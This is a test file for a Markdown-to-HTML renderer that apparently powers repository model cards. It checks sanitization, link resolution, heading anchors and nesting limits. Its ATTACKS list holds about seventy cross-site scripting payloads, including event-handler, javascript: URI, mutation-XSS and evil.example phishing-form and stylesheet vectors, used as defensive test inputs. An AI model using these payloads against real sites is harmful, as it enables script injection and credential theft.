import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render.ts";

const target = { base: "/ada/bert", revision: "main", folder: "" };
const render = (source: string): string => renderMarkdown(source, target).html;

/** What has run script in some browser or sanitizer at some time. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" OnErRoR="alert(1)">',
  "<img src=x onerror\n=\nalert(1)>",
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  "[x](javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](javascript:alert(1))",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  "<applet code=x>",
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p class="top" style="position:fixed;inset:0">x</p>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type="image" src=x onerror=alert(1)>',
  '<input type="text" autofocus onfocus=alert(1)>',
  "<details open ontoggle=alert(1)>x</details>",
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)"></video>',
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<textarea><script>alert(1)</script></textarea>",
  "<template><script>alert(1)</script></template>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "`<script>alert(1)</script>`",
  "# <img src=x onerror=alert(1)>",
  "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
  '<a id="main" name="main">x</a><h1 id="form_token">x</h1>',
];

const TAGS = new Set(
  (
    "h1 h2 h3 h4 h5 h6 p br hr blockquote pre code kbd samp var em strong b i u s del ins mark " +
    "small sub sup q abbr cite dfn time ul ol li dl dt dd table thead tbody tfoot tr th td caption " +
    "colgroup col a img picture source figure figcaption details summary div span section center " +
    "video audio input ruby rt rp bdi bdo wbr"
  ).split(" "),
);

/** Every tag of the output with its attributes; the output's own serialisation is regular. */
function tagsOf(
  html: string,
): readonly { name: string; attributes: readonly [string, string][] }[] {
  return [...html.matchAll(/<([a-zA-Z][^\s/>]*)((?:[^>"]|"[^"]*")*)>/g)].map((match) => ({
    name: match[1] ?? "",
    attributes: [...(match[2] ?? "").matchAll(/([^\s="/]+)(?:="([^"]*)")?/g)].map(
      (attribute): [string, string] => [attribute[1] ?? "", attribute[2] ?? ""],
    ),
  }));
}

describe("renderMarkdown()", () => {
  it.each(ATTACKS)("lets no script through: %s", (attack) => {
    for (const source of [attack, `text ${attack} text`, `- ${attack}`, `> ${attack}`]) {
      const html = render(source);
      for (const { name, attributes } of tagsOf(html)) {
        expect(TAGS).toContain(name);
        for (const [attribute, value] of attributes) {
          expect(attribute).not.toMatch(/^on|^style$|^srcdoc$|^formaction$|^xlink|^name$/i);
          if (["href", "src", "poster"].includes(attribute)) {
            expect(value).toMatch(/^(?:https?:\/\/|mailto:|\/ada\/bert\/|#card-|$)/);
          }
          if (attribute === "id") expect(value).toMatch(/^card-/);
          if (name === "input" && attribute === "type") expect(value).toBe("checkbox");
        }
      }
      // No "<" is left that starts anything but an allowed tag.
      expect(html.replace(/<\/?[a-z][a-z0-9]*(?:[^>"]|"[^"]*")*>/g, "")).not.toContain("<");
    }
  });

  it("points relative links into the repository", () => {
    const html = render("[config](config.json) ![x](img/a b.png) [up](../other) [f](folder/)");
    expect(html).toContain('href="/ada/bert/blob/main/config.json"');
    expect(html).toContain('href="/ada/bert/blob/main/other"');
    expect(html).toContain('href="/ada/bert/tree/main/folder/"');
    expect(render("![x](img/a.png)")).toContain('src="/ada/bert/resolve/main/img/a.png"');
    expect(render('<img src="./img/a.png?raw=1">')).toContain(
      'src="/ada/bert/resolve/main/img/a.png?raw=1"',
    );
  });

  it("resolves links from the folder that a file lies in", () => {
    const { html } = renderMarkdown("[a](b.md) [c](../d.md)", { ...target, folder: "docs/x y" });
    expect(html).toContain('href="/ada/bert/blob/main/docs/x%20y/b.md"');
    expect(html).toContain('href="/ada/bert/blob/main/docs/d.md"');
  });

  it("keeps absolute links and marks them as a stranger's", () => {
    const html = render("[x](https://example.org/a) [m](mailto:a@b.c) [p](/ada)");
    expect(html).toContain('<a href="https://example.org/a" rel="nofollow noopener ugc">');
    expect(html).toContain('href="mailto:a@b.c"');
    expect(html).toContain('href="/ada"');
  });

  it("gives headings anchors in a space of their own, and links in the text lead to them", () => {
    const { html, headings } = renderMarkdown("# Use it\n\n## Use it\n\n[x](#use-it)", target);
    expect(headings).toEqual([
      { level: 1, id: "card-use-it", text: "Use it" },
      { level: 2, id: "card-use-it-1", text: "Use it" },
    ]);
    expect(html).toContain('<h1 id="card-use-it">');
    expect(html).toContain('href="#card-use-it"');
  });

  it("renders tables, task lists and highlighted code", () => {
    const html = render(
      "| a |\n| - |\n| 1 |\n\n- [x] done\n- [ ] open\n\n```python\ndef f(): pass\n```",
    );
    expect(html).toContain("<td>1</td>");
    expect(
      html.match(/<input type="checkbox" disabled(?:="")?( checked(?:="")?)? ?\/?>/g),
    ).toHaveLength(2);
    expect(html).toContain('<span class="hljs-keyword">def</span>');
  });

  it("keeps the harmless HTML that cards are made of", () => {
    const html = render(
      '<p align="center"><img src="a.png" width="300" alt="A"></p>\n\n<details><summary>More</summary>x</details>',
    );
    expect(html).toContain(
      '<p align="center"><img src="/ada/bert/resolve/main/a.png" width="300" alt="A" loading="lazy" /></p>',
    );
    expect(html).toContain("<details><summary>More</summary>");
  });

  it("survives deep nesting", () => {
    expect(render("<div>".repeat(5000)).length).toBeLessThan(100_000);
    expect(render(`${"> ".repeat(3000)}x`).length).toBeLessThan(200_000);
  });
});
